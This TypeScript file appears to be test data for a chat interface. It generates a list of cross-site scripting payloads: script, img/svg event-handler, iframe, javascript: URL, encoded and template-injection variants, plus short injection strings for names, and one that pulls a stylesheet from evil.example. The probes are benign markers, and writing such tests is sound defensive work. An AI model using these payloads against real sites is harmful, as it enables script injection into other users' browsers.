// What people write who want a page to run it: one text for each way into a document, each with several things to run.

/** What would run: it would be seen as a dialog, or as a mark on the window. */
const deeds = ['alert(1)', 'ran=1'];

const ways: ReadonlyArray<(deed: string) => string> = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<SCRIPT\t>${deed}</SCRIPT x>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'-->]]><script>${deed}//`,
  (deed) => `</textarea></title></style><script>${deed}</script>`,
  (deed) => `<script/src=data:text/javascript,${deed}>`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `<IMG SRC=x ONERROR='${deed}'>`,
  (deed) => `"><img src=x onerror="${deed}`,
  (deed) => `<img/src/onerror=${deed}`,
  (deed) => `<svg onload=${deed}>`,
  (deed) => `<svg><script href=data:,${deed} />`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x>`,
  (deed) => `<svg><a xlink:href="javascript:${deed}"><text y=9>x`,
  (deed) => `<math><mtext><img src=x onerror=${deed}>`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>">`,
  (deed) => `<iframe src="javascript:${deed}">`,
  (deed) => `<object data="javascript:${deed}">`,
  (deed) => `<embed src="data:text/html,<script>${deed}</script>">`,
  (deed) => `<a href="javascript:${deed}">look</a>`,
  (deed) => `<a href=" java&#10;script:${deed}">look</a>`,
  (deed) => `<form action="javascript:${deed}"><button>look`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<video><source onerror=${deed}>`,
  (deed) => `<audio src=x onerror=${deed}>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<marquee onstart=${deed}>`,
  (deed) => `<style>@import'data:text/css,*{}';</style><i onclick=${deed}>`,
  (deed) => `<link rel=stylesheet href=//evil.example/${deed}>`,
  (deed) => `<base href="javascript:${deed}//">`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<template shadowrootmode=open><script>${deed}</script>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `x" onmouseover="${deed}" autofocus onfocus="${deed}`,
  (deed) => `x' style='background:url(javascript:${deed})`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `https://evil.example/"onclick="${deed}`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;script&#62;${deed}&#60;/script&#62;`,
  (deed) => `\\u003cscript\\u003e${deed}`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}} <%= ${deed} %> #{${deed}}`,
  (deed) => `';${deed};'`,
  (deed) => `"+${deed}+"`,
  (deed) => `{"__html":"<img src=x onerror=${deed}>"}`,
  (deed) => `__proto__ constructor toString ${deed}`,
  (deed) => `＜script＞${deed}＜/script＞`,
];

/** As they stand in a line of chat: a tab is shown as a space. */
export const payloads: readonly string[] = ways.flatMap((way) => deeds.map((deed) => way(deed).replace('\t', ' ')));

/** Short enough for a name. */
export const names: readonly string[] = [
  '<svg onload=ran=1>',
  '<img src onerror=a>',
  '"><script>ran=1//',
  "'onclick='ran=1",
  '<a href=javascript:>',
  '</title><b>x',
  '<style>*{}</style>',
  '{{ran=1}}${ran=1}',
  '&lt;b&gt;&amp;',
  '__proto__',
];
